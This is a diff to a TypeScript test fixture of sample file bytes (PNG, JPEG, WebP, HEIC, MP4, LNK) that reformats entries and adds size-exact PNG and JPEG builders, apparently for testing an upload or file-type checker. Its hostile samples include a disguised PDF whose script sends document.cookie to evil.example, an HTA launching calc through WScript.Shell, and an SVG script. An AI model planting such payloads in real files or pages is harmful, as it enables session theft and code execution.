@@ -44,9 +44,18 @@ export const SAMPLE_FILES = {
     pngChunk("IDAT", [1, 2, 3]),
     pngChunk("IEND", []),
   ),
-  jpeg: concat([0xff, 0xd8, 0xff, 0xe0], u32be(0x00104a46).slice(0, 4), text("IF\0"), new Array(32).fill(0), [0xff, 0xd9]),
+  jpeg: concat(
+    [0xff, 0xd8, 0xff, 0xe0],
+    u32be(0x00104a46).slice(0, 4),
+    text("IF\0"),
+    new Array(32).fill(0),
+    [0xff, 0xd9],
+  ),
   webp: concat(text("RIFF"), u32le(4 + 8 + 10), text("WEBP"), text("VP8 "), u32le(10), new Array(10).fill(0)),
-  heic: concat(box("ftyp", concat(text("heic"), u32be(0), text("mif1"), text("heic"))), box("meta", new Array(8).fill(0))),
+  heic: concat(
+    box("ftyp", concat(text("heic"), u32be(0), text("mif1"), text("heic"))),
+    box("meta", new Array(8).fill(0)),
+  ),
   mp4: concat(
     box("ftyp", concat(text("isom"), u32be(512), text("isom"), text("mp42"))),
     box("moov", new Array(16).fill(0)),
@@ -56,7 +65,9 @@ export const SAMPLE_FILES = {
   pdfWithHtmlBody: text(
     "%PDF-1.4\n<html><body><script>document.location='https://evil.example/?c='+document.cookie</script></body></html>\n%%EOF\n",
   ),
-  hta: text('<html><head><HTA:APPLICATION id="x"/></head><script>new ActiveXObject("WScript.Shell").Run("calc")</script></html>'),
+  hta: text(
+    '<html><head><HTA:APPLICATION id="x"/></head><script>new ActiveXObject("WScript.Shell").Run("calc")</script></html>',
+  ),
   // A Windows shortcut's header (the ShellLinkHeader size and CLSID): it runs whatever it points at when opened.
   lnk: concat(
     [0x4c, 0x00, 0x00, 0x00, 0x01, 0x14, 0x02, 0x00, 0x00, 0x00, 0x00, 0x00, 0xc0, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00],
@@ -65,3 +76,19 @@ export const SAMPLE_FILES = {
   ),
   svg: text('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>'),
 };
+
+/** A whole PNG of exactly `size` bytes (at least 57): its IDAT chunk holds `fill` repeated. */
+export function pngOfSize(size: number, fill = 7): Uint8Array<ArrayBuffer> {
+  return concat(
+    [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a],
+    pngChunk("IHDR", [0, 0, 0, 1, 0, 0, 0, 1, 8, 6, 0, 0, 0]),
+    pngChunk("IDAT", new Array(size - 57).fill(fill)),
+    pngChunk("IEND", []),
+  );
+}
+
+/** A whole JPEG of exactly `size` bytes: its start and end markers around `middle` (default random-looking bytes). */
+export function jpegOfSize(size: number, middle?: Uint8Array): Uint8Array<ArrayBuffer> {
+  const body = middle ?? Uint8Array.from({ length: size - 6 }, (_, index) => (index * 131 + 17) % 251);
+  return concat([0xff, 0xd8, 0xff, 0xe0], body.subarray(0, size - 6), [0xff, 0xd9]);
+}
